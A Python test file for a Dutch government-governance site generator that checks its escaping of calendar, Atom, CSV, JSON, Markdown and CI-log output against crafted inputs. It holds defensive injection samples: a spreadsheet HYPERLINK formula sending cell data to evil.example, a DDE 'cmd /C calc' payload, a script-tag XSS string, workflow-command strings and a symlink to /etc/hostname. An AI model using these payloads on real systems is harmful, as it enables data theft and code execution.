"""Escaping per output format (generator/escape.py): data and file names stay in their place in every
output, whatever characters they hold.

Issue 15: a line break a reader sees in a value adds events to a calendar (2); a file name writes a
GitHub workflow command into the log of govsite validate, or headings and <details> into the job
summary of govsite diff (11); govsite diff reads files the loader never reads, whole (12).
"""
from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from types import SimpleNamespace

import feedparser
import icalendar
import pytest
from hypothesis import given, settings, strategies as st
from markdown_it import MarkdownIt

import govsite_cli
import payloads
from generator import escape
from generator.site import feeds
from generator.domain import agenda
from generator.domain.changes import Change
from generator.domain.load import MAX_FILE_BYTES
from generator.pipeline import check

from conftest import AS_OF, REGION, RegionsDir

ROOT = Path(__file__).resolve().parent.parent
GIT_ENV = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "Secretariaat",
           "GIT_AUTHOR_EMAIL": "secretariaat@example.org", "GIT_COMMITTER_NAME": "Secretariaat",
           "GIT_COMMITTER_EMAIL": "secretariaat@example.org", "GIT_AUTHOR_DATE": "2026-01-05T10:00:00+01:00",
           "GIT_COMMITTER_DATE": "2026-01-05T10:00:00+01:00"}


def govsite(*args: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    return govsite_cli.govsite(*args, cwd=cwd, timeout=timeout, text=False,
                               env={**GIT_ENV, "XDG_CACHE_HOME": str(cwd / "cache"),
                                    "GOVSITE_CACHE": str(cwd / "cache" / "govsite")})


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env={**os.environ, **GIT_ENV}).stdout.strip()


def commit(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar holding text, every character written as an escape where YAML has one
    (\\L, \\P, \\N, \\v...), so that the file itself stays plain."""
    named = {"\u2028": "\\L", "\u2029": "\\P", "\x85": "\\N", "\n": "\\n", "\r": "\\r", "\t": "\\t", '"': '\\"',
             "\\": "\\\\"}
    return '"' + "".join(named.get(ch, ch if " " <= ch < "\x7f" or ch > "\x9f" else f"\\x{ord(ch):02x}")
                         for ch in text) + '"'


# --- 2. the calendar: only the template's line ends are line ends -----------------------------

def _events(text: str) -> list:
    calendar = icalendar.Calendar.from_ical(text)
    return [c for c in calendar.walk() if c.name == "VEVENT"]


def _injected(text: str) -> list[str]:
    """What an injection left in a calendar: lines of its own that the template does not write."""
    unfolded = text.replace("\r\n ", "")
    assert "\r" not in unfolded.replace("\r\n", ""), "a bare CR in the calendar"
    lines = unfolded.split("\r\n")
    return [line for line in lines if line.startswith(("UID:ingevoegd", "URL:https://evil", "BEGIN:VALARM",
                                                       "X-REST"))]


def _calendar(name: str, titles: list[str], details: list[str] | None = None) -> str:
    """A calendar through feeds' public writer, for any text (the loader may refuse some): a
    municipality's calendar over agenda items whose region name, title and detail carry the text."""
    day = dt.date(2027, 1, 15)
    items = [agenda.AgendaItem(date=day, kind="planning", key=f"planning-{i}", title=title, region_id=REGION,
                               region_name=name, body="", basis="planning", detail=detail)
             for i, (title, detail) in enumerate(zip(titles, details or ["Uiterste datum."] * len(titles)))]
    return feeds.municipality_calendar(name, items, AS_OF, f"https://regio.example.nl/{REGION}/raad/")


@pytest.mark.parametrize("separator", payloads.LINE_BREAKS, ids=ascii)
def test_calendar_writer_keeps_every_value_on_its_line(separator):
    """The writer alone, without the loader's rules: a line break of any kind in the calendar's name,
    an event's title or its description stays inside that value."""
    text = _calendar(payloads.calendar_event(separator, "Leidse regio"),
                     [payloads.calendar_event(separator), "Ontwerpbegroting"],
                     [payloads.calendar_event(separator, "Uiterste datum."), "Uiterste datum."])
    events = _events(text)
    assert len(events) == 2
    assert not _injected(text)
    assert all(str(e["UID"]).startswith(f"{REGION}-planning-") for e in events)
    assert all(str(e["URL"]) == f"https://regio.example.nl/{REGION}/raad/" for e in events)
    summary = str(events[0]["SUMMARY"])
    assert summary.startswith("Kaderbrief") and "BEGIN:VEVENT" in summary  # shown, as text
    for line in text.split("\r\n"):
        for char in ("\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\n", "\r"):
            assert char not in line


def test_calendar_through_the_build(tmp_path):
    """govsite build: a region name (the calendar's name) and planning documents (events) with a line
    separator, a paragraph separator and NEL are either refused with their place (the loader's rule),
    or reach agenda.ics as text: never as events of their own."""
    regions = RegionsDir(tmp_path / "regions")
    regions.replace("region.yaml", "name: Jeugdregio Leidse regio\n",
                    f"name: {yaml_quoted(payloads.calendar_event(chr(0x2028), 'Leidse regio'))}\n")
    for old, separator in (("Kaderbrief", "\u2029"), ("Ontwerpbegroting", "\x85")):
        regions.replace("accountability.yaml", f"  - document: {old}\n",
                        f"  - document: {yaml_quoted(payloads.calendar_event(separator, old))}\n")
    result = govsite("build", "--regions", str(regions.root), "--out", str(tmp_path / "site"), "--as-of",
                     AS_OF.isoformat(), cwd=tmp_path)
    output = (result.stdout + result.stderr).decode("utf-8", "replace")
    if result.returncode != 0:  # refused where the text enters: each with its file
        assert "region.yaml" in output and "accountability.yaml" in output, output
        assert "interne fout" not in output
        return
    text = (tmp_path / "site" / REGION / "agenda.ics").read_bytes().decode("utf-8")
    checked = check(regions.root, None, AS_OF)
    region = checked.regions[0]
    expected = feeds.events(region, region.state(AS_OF))
    assert len(_events(text)) == len(expected) and len(expected) >= 2
    assert not _injected(text)
    name = str(icalendar.Calendar.from_ical(text)["X-WR-CALNAME"])
    assert "BEGIN:VEVENT" in name  # the calendar's name, shown as text


@pytest.mark.parametrize("value", ["Begroting\x85\u2028wijziging", "Nul\x00 DEL\x7f C1\x9b einde",
                                   "half \ud800 surrogaat", "niet-teken \ufffe\uffff", "verticaal\x0b\x0cblad"],
                         ids=ascii)
def test_atom_feed_is_well_formed_xml_whatever_the_text(value):
    """The other writer of the same data: characters XML cannot carry, C1 controls and lone surrogates
    (which could not even be written as UTF-8) are left out; the feed parses strictly."""
    region = SimpleNamespace(id=REGION, data=SimpleNamespace(name=value))
    changes = [Change(dt.date(2026, 3, 1), "afspraak", f"{value} is gewijzigd.", "afspraken/", "x")]
    raw = feeds.region_feed(region, changes, AS_OF).encode("utf-8")
    root = ET.fromstring(raw)
    titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(t and t.endswith("is gewijzigd.") for t in titles)
    parsed = feedparser.parse(raw)
    assert not parsed.bozo, parsed.get("bozo_exception")
    for char in "\x00\x7f\x85\x9b\ud800\ufffe\uffff\x0b\x0c":
        assert char not in raw.decode("utf-8")


# --- 11. the terminal and the CI log: one finding, one line --------------------------------------

def _command_lines(output: str) -> list[str]:
    """Lines a GitHub runner would read as a workflow command, or that steer a terminal."""
    lines = output.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return [line for line in lines if line.lstrip().startswith("::") or "##[" in line or "\x1b" in line
            or "\x9b" in line or "\x07" in line]


def _run_output(result: subprocess.CompletedProcess) -> str:
    return result.stdout.decode("utf-8", "replace") + result.stderr.decode("utf-8", "replace")


@pytest.mark.parametrize("name", payloads.CI_LOG, ids=ascii)
def test_file_names_cannot_write_workflow_commands(tmp_path, name):
    """A file in a region folder (reported by name), a region folder (its name is the message's data),
    and the same through govsite fmt: every finding stays one line, shown with visible escapes."""
    regions = RegionsDir(tmp_path / "regions")
    (regions.folder / f"{name}.yaml").write_text("a:   1\n", encoding="utf-8")  # unknown, and not canonical
    (regions.root / f"{name}-regio").mkdir()
    result = govsite("validate", "--regions", str(regions.root), "--as-of", AS_OF.isoformat(), cwd=tmp_path)
    output = _run_output(result)
    assert result.returncode == 1
    assert not _command_lines(output), output
    shown = escape.ci_line(name)
    assert output.count(shown) >= 2, output  # the file and the folder are named, visibly escaped
    formatted = govsite("fmt", "--check", "--regions", str(regions.root), cwd=tmp_path)
    assert shown in _run_output(formatted) and not _command_lines(_run_output(formatted)), _run_output(formatted)
    as_json = govsite("validate", "--format", "json", "--regions", str(regions.root), "--as-of",
                      AS_OF.isoformat(), cwd=tmp_path)
    data = json.loads(as_json.stdout.decode("utf-8"))
    assert any(name in f["path"] for f in data["findings"])  # JSON keeps the name as it is, escaped by JSON
    assert not _command_lines(as_json.stdout.decode("utf-8"))


@pytest.mark.parametrize("value", payloads.CI_LOG[:2] + payloads.CI_LOG[-2:], ids=ascii)
def test_values_quoted_in_messages_cannot_write_workflow_commands(tmp_path, value):
    """Variant: the data is a value the validator quotes in its message (an unknown domain), and a
    region named on the command line."""
    regions = RegionsDir(tmp_path / "regions")
    regions.replace("region.yaml", "domains: [jeugd, wmo]", f"domains: [jeugd, {yaml_quoted(value)}]")
    result = govsite("validate", "--regions", str(regions.root), "--as-of", AS_OF.isoformat(), cwd=tmp_path)
    output = _run_output(result)
    assert result.returncode == 1 and "region.yaml" in output, output
    assert not _command_lines(output), output
    unknown = govsite("validate", value, "--regions", str(regions.root), cwd=tmp_path)
    assert unknown.returncode == 2 and not _command_lines(_run_output(unknown)), _run_output(unknown)


# --- 11. the job summary of govsite diff: data stays text ----------------------------------------

CRAFTED = "Regio ``` `code` <details><summary>open</summary>\n## kop\n</details> | a | *b* [c](https://evil.example/)"


def _structure(report: str) -> dict:
    tokens = MarkdownIt("commonmark").enable("table").parse(report)
    inline = [child for t in tokens if t.type == "inline" for child in (t.children or [])]
    return {"headings": [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"],
            "html": [t.content for t in tokens + inline if t.type.startswith("html")],
            "fences": [t.content for t in tokens if t.type in ("fence", "code_block")],
            "code": [t.content for t in inline if t.type == "code_inline"],
            "links": [t.attrGet("href") for t in inline if t.type == "link_open"],
            "tables": sum(t.type == "table_open" for t in tokens)}


@pytest.fixture
def repo(tmp_path):
    regions = RegionsDir(tmp_path / "repo" / "regions")
    git(tmp_path / "repo", "init", "-q", "-b", "main")
    commit(tmp_path / "repo", "basis")
    return regions


def test_diff_summary_keeps_crafted_names_as_text(repo):
    """Names and titles with fences, code, HTML, headings, tables and links: the summary has the headings,
    code and blocks govsite writes, and nothing else."""
    top = repo.root.parent
    git(top, "checkout", "-q", "-b", "namen")
    repo.replace("region.yaml", "name: Jeugdregio Leidse regio\n", f"name: {yaml_quoted(CRAFTED)}\n")
    repo.replace("agreements/gr-jeugd.yaml", "title: Gemeenschappelijke regeling Jeugd Leidse regio\n",
                 f"title: {yaml_quoted(CRAFTED + ' regeling')}\n")
    commit(top, "namen")
    result = govsite("diff", "main", "namen", "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
    report = result.stdout.decode("utf-8")
    assert result.returncode == 0, _run_output(result)
    found = _structure(report)
    assert found["headings"][0] == "Wijzigingen in de governance" and len(found["headings"]) == 2, found
    assert found["html"] == [] and found["fences"] == [] and found["links"] == [] and found["tables"] == 0, found
    assert found["code"] == ["main", "namen"], found
    rendered = MarkdownIt("commonmark").render(report)
    assert " ".join(CRAFTED.split()).replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;") in rendered


def test_diff_summary_keeps_crafted_file_names_in_their_code_block(repo):
    """A file name that closes the fence of the errors block and writes a heading and <details>, and a
    branch whose name tries the same in the revision label."""
    top = repo.root.parent
    branch = "x`<details>`y"
    git(top, "checkout", "-q", "-b", branch)
    (repo.folder / "x\n```\n## kop\n<details>\n````\n~~~.yaml").write_text("a: 1\n", encoding="utf-8")
    commit(top, "bestand")
    result = govsite("diff", "main", branch, "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
    report = result.stdout.decode("utf-8")
    assert result.returncode == 0, _run_output(result)
    found = _structure(report)
    assert len(found["headings"]) == 3 and found["headings"][2].startswith("Fouten in"), found
    assert found["html"] == [] and found["links"] == [], found
    assert len(found["fences"]) == 1 and "## kop" in found["fences"][0] and "onbekend bestand" in found["fences"][0]
    assert found["code"] == ["main", branch, branch], found


# --- 12. govsite diff reads what the loader reads, by size first ---------------------------------

def _peak_rss_mb(args: list[str], cwd: Path) -> tuple[float, subprocess.CompletedProcess]:
    """Run govsite in a child that reports the peak memory of its own children (govsite and its git)."""
    probe = ("import resource, subprocess, sys, json\n"
             "r = subprocess.run(sys.argv[1:], capture_output=True)\n"
             "sys.stderr.buffer.write(r.stderr)\n"
             "sys.stdout.buffer.write(r.stdout)\n"
             "print(json.dumps([r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]), "
             "file=sys.stderr)\n")
    result = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "generator", *args], cwd=cwd,
                            capture_output=True, timeout=300, env={**os.environ, **GIT_ENV, "PYTHONPATH": str(ROOT)})
    code, peak_kb = json.loads(result.stderr.decode().strip().splitlines()[-1])
    result.returncode = code
    return peak_kb / 1024, result


def test_diff_does_not_read_files_the_loader_ignores(repo):
    """A large file of zeros next to the YAML (small in git, ignored by validate) is never read: the
    memory of govsite diff stays that of a small diff, and the report sees no change."""
    top = repo.root.parent
    git(top, "checkout", "-q", "-b", "groot")
    with open(repo.folder / "nullen.bin", "wb") as handle:
        handle.truncate(128 * 1024 * 1024)
    commit(top, "groot bestand")
    peak, result = _peak_rss_mb(["diff", "main", "groot", "--regions", "regions", "--as-of", AS_OF.isoformat()], top)
    assert result.returncode == 0, result.stderr
    assert "Geen wijzigingen in de governance." in result.stdout.decode("utf-8")
    assert peak < 110, f"govsite diff used {peak:.0f} MB"
    worktree, result = _peak_rss_mb(["diff", "main", "--regions", "regions", "--as-of", AS_OF.isoformat()], top)
    assert result.returncode == 0 and worktree < 110, (worktree, result.stderr)


def test_diff_refuses_a_file_over_the_limit_by_its_size(repo):
    """A YAML file the loader reads, just over its limit: reported as validate reports it (in Dutch,
    with its path in the repository), without being read."""
    top = repo.root.parent
    git(top, "checkout", "-q", "-b", "te-groot")
    path = repo.path("organisation.yaml")
    with open(path, "r+b") as handle:
        handle.truncate(MAX_FILE_BYTES + 1)
    commit(top, "te groot")
    for args in (["main", "te-groot"], ["main"]):
        result = govsite("diff", *args, "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
        report = result.stdout.decode("utf-8")
        assert result.returncode == 0, _run_output(result)
        assert f"regions/{REGION}/organisation.yaml:0:0: error: het bestand is te groot" in report, report
        assert "Niet vergeleken: de nieuwe versie van deze regio bevat fouten" in report


def test_diff_judges_links_as_validate_does(repo):
    """Symbolic links in a commit are written as links for the loader to judge, never followed while
    reading git: one to a file outside the regions folder is refused as in a validate, with its path in
    the repository; one to a file inside is read through."""
    top = repo.root.parent
    git(top, "checkout", "-q", "-b", "links")
    repo.path("finance.yaml").unlink()
    repo.path("finance.yaml").symlink_to("/etc/hostname")
    (repo.root / "reflectie.yaml").write_bytes(repo.path("reflection.yaml").read_bytes())
    repo.path("reflection.yaml").unlink()
    repo.path("reflection.yaml").symlink_to("../reflectie.yaml")
    commit(top, "links")
    validate = _run_output(govsite("validate", "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top))
    for args in (["main", "links"], ["main"]):
        result = govsite("diff", *args, "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
        report = result.stdout.decode("utf-8")
        assert result.returncode == 0, _run_output(result)
        errors = [line for line in report.splitlines() if ": error: " in line]
        assert errors == [line for line in validate.splitlines() if ": error: " in line], (report, validate)
        assert errors and all(line.startswith(f"regions/{REGION}/finance.yaml:0:0:") for line in errors)
        assert "govsite-diff-" not in report


def test_diff_sees_changes_to_comments_only(repo):
    """Only what the loader reads counts as a change in layout: a comment in a YAML file does, a file
    next to them does not."""
    top = repo.root.parent
    git(top, "checkout", "-q", "-b", "opmaak")
    (repo.folder / "LEESMIJ.txt").write_text("notities\n", encoding="utf-8")
    commit(top, "notitie")
    result = govsite("diff", "main", "opmaak", "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
    assert "Geen wijzigingen in de governance." in result.stdout.decode("utf-8"), _run_output(result)
    repo.write("region.yaml", "# toelichting\n" + repo.text("region.yaml"))
    commit(top, "toelichting")
    for args in (["main", "opmaak"], ["main"]):
        result = govsite("diff", *args, "--regions", "regions", "--as-of", AS_OF.isoformat(), cwd=top)
        assert "Alleen de opmaak of de toelichting" in result.stdout.decode("utf-8"), _run_output(result)


# --- the escapers without callers yet: CSV and JSON for open data ---------------------------------

@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("https://evil.example/?x="&A1,"klik")', '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""klik"")"'),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "\"'\r=1\""),
    ("  =1+1", "'  =1+1"),
    ("Leiden, Leiderdorp", '"Leiden, Leiderdorp"'),
    ('Zeg "ja"', '"Zeg ""ja"""'),
    ("twee\nregels", '"twee\nregels"'),
    ("Regio's & co - 2026", "Regio's & co - 2026"),
    (-1, "-1"),
    (2.5, "2.5"),
    (None, ""),
])
def test_csv_cell(value, expected):
    assert escape.csv_cell(value) == expected


def test_csv_rows_read_back_as_written():
    import csv
    import io

    rows = [["code", "naam", "bedrag"], ["GM0546", '=cmd|" /C calc"!A0', -12.5], ["GM0547", "a,b\r\nc", 3]]
    text = "".join(escape.csv_row(row) for row in rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["code", "naam", "bedrag"]
    assert read[1] == ["GM0546", '\'=cmd|" /C calc"!A0', "-12.5"]
    assert read[2] == ["GM0547", "a,b\r\nc", "3"]
    assert text.endswith("\r\n")


def test_json_document_and_json_in_html():
    value = {"naam": "</script><script>alert(1)</script>", "regel": "a\u2028b\u2029c\x85d\x9be", "kort": "é"}
    document = escape.json_document(value)
    assert json.loads(document) == value
    assert "é" in document  # readable UTF-8, not \u00e9
    assert not any(ch in document for ch in "\u2028\u2029\x85\x9b")
    embedded = escape.json_in_html(value)
    assert json.loads(embedded) == value
    assert "<" not in embedded and ">" not in embedded and "&" not in embedded
    assert escape.json_document("\ud800").encode("utf-8")  # a lone surrogate can still be written


def _json_the_slow_way(value, **options) -> str:
    """escape.json_document as it was, through json.dumps itself (its Python encoder with an indent)."""
    text = json.dumps(value, ensure_ascii=False, **options)
    text = "".join(f"\\u{ord(ch):04x}" if ch in "\x7f\u2028\u2029\ufeff\ufffe\uffff" or "\x80" <= ch <= "\x9f"
                   or "\ud800" <= ch <= "\udfff" else ch for ch in text)
    return text.replace("##[", "#\\u0023[")


_JSON_SCALARS = (st.none() | st.booleans() | st.integers() | st.floats() | st.text()
                 | st.sampled_from(["##[x", "é\u2028\x85\ud800", "", '"\\/\n']))
_JSON_VALUES = st.recursive(_JSON_SCALARS, lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner)
                            | st.dictionaries(st.text(max_size=6), inner, max_size=4), max_leaves=30)


@settings(max_examples=300, deadline=None)
@given(_JSON_VALUES, st.integers(0, 3), st.booleans())
def test_indented_json_document_equals_json_dumps(value, indent, sort_keys):
    # json_document writes indented documents (the open data) without json.dumps: the same text
    assert escape.json_document(value, indent=indent, sort_keys=sort_keys) == \
        _json_the_slow_way(value, indent=indent, sort_keys=sort_keys)


def test_json_document_leaves_unusual_values_to_json_dumps():
    assert escape.json_document({1: 2, None: [1.5]}, indent=1) == json.dumps({1: 2, None: [1.5]}, indent=1)
    assert escape.json_document({"b": {2: "x"}, "a": 1}, indent=1, sort_keys=True) == \
        json.dumps({"b": {2: "x"}, "a": 1}, indent=1, sort_keys=True)
    with pytest.raises(TypeError):
        escape.json_document({"datum": dt.date(2026, 1, 1)}, indent=1)
    cycle: list = []
    cycle.append(cycle)
    with pytest.raises(ValueError):  # json.dumps' "Circular reference detected"
        escape.json_document(cycle, indent=1)


def test_ci_line_never_starts_a_workflow_command():
    assert escape.ci_line("regions/x.yaml:1:2: error: fout") == "regions/x.yaml:1:2: error: fout"
    for text in ("::error::x", "  ::error::x", "\u3000::error::x", "a ##[error]b", "a\n::error::b"):
        line = escape.ci_line(text)
        assert "\n" not in line and not line.lstrip().startswith("::") and "##[" not in line
    assert escape.ci_line("rood\x1b[31m\u202e") == "rood\\x1b[31m\\u202e"
    assert escape.ci_lines("een\n::twee") == "een\n\\x3a:twee"


@pytest.mark.parametrize("title", ["Regeling\x80 [klik](https://evil.example/)", "a\u2028---\u2029b\x85c",
                                   "nul\x00 esc\x1b del\x7f", "half \ud800 surrogaat", "niet \ufffe\uffff"],
                         ids=ascii)
def test_front_matter_value_stays_front_matter(title):
    """Page titles reach MkDocs in YAML front matter: a character YAML refuses would turn the whole
    front matter into page text (where a title's Markdown is read). The writer's escape keeps it YAML."""
    import yaml

    from mkdocs.utils import meta

    body, data = meta.get_data(f"---\ntitle: {escape.yaml_string(title)}\n---\n\ntekst")
    assert body.strip() == "tekst"
    assert data["title"] == title.replace("\ud800", "\ufffd")
    assert yaml.safe_load(f"title: {escape.yaml_string(title)}")["title"] == data["title"]
